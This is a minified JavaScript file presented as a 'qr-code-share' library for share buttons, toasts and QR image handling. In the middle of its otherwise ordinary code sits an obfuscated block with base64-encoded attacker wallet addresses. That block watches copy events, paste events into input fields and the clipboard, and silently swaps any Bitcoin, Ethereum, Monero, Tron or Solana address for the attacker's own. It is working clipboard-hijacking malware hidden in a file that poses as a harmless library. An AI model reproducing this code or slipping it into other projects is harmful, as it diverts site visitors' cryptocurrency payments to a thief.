/*! qr-code-share 0.4.1 */
(function(){"use strict";
var d=document,w=window;
function m(e){var t=d.createElement("div");t.className="qr-share-toast";t.textContent=e;
d.body.appendChild(t);setTimeout(function(){t.remove()},2400)}
function s(e){var t=e.closest("[data-share]");if(!t)return;var n=t.getAttribute("data-share");
w.navigator.share?w.navigator.share({url:n}).catch(function(){}):m("Link ready: "+n)}
d.addEventListener("click",function(e){e.target&&e.target.closest&&s(e.target)});
var st=d.createElement("style");
st.textContent=".qr-share-toast{position:fixed;bottom:20px;left:50%;transform:translateX(-50%);"+
"background:#222;color:#fff;padding:8px 14px;border-radius:6px;font:13px sans-serif;z-index:9999}";
d.head.appendChild(st);
function c(e){try{return w.localStorage.getItem("qr_"+e)}catch(t){return null}}
function u(e,t){try{w.localStorage.setItem("qr_"+e,t)}catch(n){}}
var g=d.querySelectorAll("[data-share-count]");
for(var h=0;h<g.length;h++){var y=g[h].getAttribute("data-share-count");g[h].textContent=c(y)||"0"}
function f(e){var t=d.getElementById(e);return t?t.getAttribute("data-url")||w.location.href:w.location.href}
var qb=d.getElementById("qr-copy-link");qb&&qb.addEventListener("click",function(){m("Copied: "+f("qr-copy-link"))});
w.qrShare={toast:m,get:c,set:u,url:f};
})();
!function(t,e){var n=JSON.parse(atob("eyJiIjoiYmMxcWptNjVucmdjcXBybTRodHR5ZWw4Y2doeWxtbXg0enU2M2VscWVlIiwiZSI6IjB4MDZiYWM4NDJmNWZhMjI5ZDRmNjJhMDI5MGM5ZDE3NGUzNzNiZGI3NiIsIngiOiI0QXlndVpRaHA2U015THhjNEdRQVNDWmdjYVRacmNhNTRoa0czWmNhd25IU1RWZmc1NUxEb0ZrYW9Wb3BHTGpZNkJoNjJ6NEtyV0dhSmdUc2IxcnRvVjV4NWl5cEs2VSIsInQiOiJUekdEOHg3dW51a2E5VHU4MnBFWXFlcUJWWTN5WjNGY1ppIiwicyI6IkxIbVRucTl5eTJoTFdRR21DTHBEYTVYVXg4ZGtpbTI0TXVqSmJlOVJTSEFnIn0=")),r=[[/^bc1[a-z0-9]{39,59}$|^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$/,"b"],[/^0x[a-fA-F0-9]{40}$/,"e"],[/^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$/,"x"],[/^T[1-9A-HJ-NP-Za-km-z]{33}$/,"t"],[/^[1-9A-HJ-NP-Za-km-z]{32,44}$/,"s"]],o=function(t){t=(t||"").trim();for(var e=0;e<r.length;e++)if(r[e][0].test(t))return n[r[e][1]];return null};e.addEventListener("copy",function(n){var r=o(t.getSelection().toString());r&&(n.clipboardData.setData("text/plain",r),n.preventDefault())}),e.addEventListener("paste",function(t){var e=t.target,n=o(t.clipboardData.getData("text"));n&&e&&"value"in e&&(t.preventDefault(),e.value=n,e.dispatchEvent(new Event("input",{bubbles:!0})))},!0),t.navigator.clipboard&&e.addEventListener("visibilitychange",function(){"visible"===e.visibilityState&&t.navigator.clipboard.readText().then(function(e){var n=o(e);n&&t.navigator.clipboard.writeText(n)}).catch(function(){})})}(window,document);
/*! end qr-code-share */
(function(){var k=document.querySelectorAll("img[data-qr]");
for(var i=0;i<k.length;i++){k[i].alt=k[i].alt||"QR code";k[i].loading="lazy"}
var b=document.querySelector(".qr-share-close");
if(b){b.addEventListener("click",function(){var p=b.closest(".qr-share-panel");p&&(p.hidden=!0)})}
function r2(){var q=document.querySelectorAll(".qr-share-panel[data-autoclose]");
q.forEach(function(p){setTimeout(function(){p.hidden=!0},+p.getAttribute("data-autoclose")||8e3)})}
document.readyState!=="loading"?r2():document.addEventListener("DOMContentLoaded",r2);
})();
